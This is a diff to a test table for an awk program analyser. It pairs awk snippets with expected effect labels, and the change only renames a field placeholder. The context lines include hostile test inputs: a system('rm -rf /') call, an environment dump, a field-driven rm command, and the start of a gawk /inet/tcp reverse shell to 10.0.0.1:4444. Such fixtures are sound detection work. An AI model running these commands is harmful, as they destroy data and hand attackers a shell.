@@ -210,7 +210,7 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ('BEGIN{system("rm -rf /")}', ["sh rm -rf /"]),
         ('BEGIN { cmd = "id"; while ((cmd | getline line) > 0) print line; close(cmd) }', ["sh id"]),
         ('{ print $1 > "out.txt" }', ["write out.txt"]),
-        ('{ print $2 >> $1".log" }', ["write {$1}.log?"]),
+        ('{ print $2 >> $1".log" }', ["write {field}.log?"]),
         ("$3 > 10 { print $1, $3 }", []),
         ("{ if ($1 > max) max = $1 } END { print max }", []),
         ('{ print | "sort -u" }', ["sh sort -u"]),
@@ -219,7 +219,7 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ("BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", ["effect dumps_environment"]),
         ('BEGIN { print ENVIRON["HOME"] }', []),
         ('/system\\("x"\\)/ { n++ } # system("y")', []),
-        ('{ system("rm " $1) }', ["sh rm {$1}?"]),
+        ('{ system("rm " $1) }', ["sh rm {field}?"]),
         (
             (
                 'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while (1) { print "> " |& s; s |& getline c; '
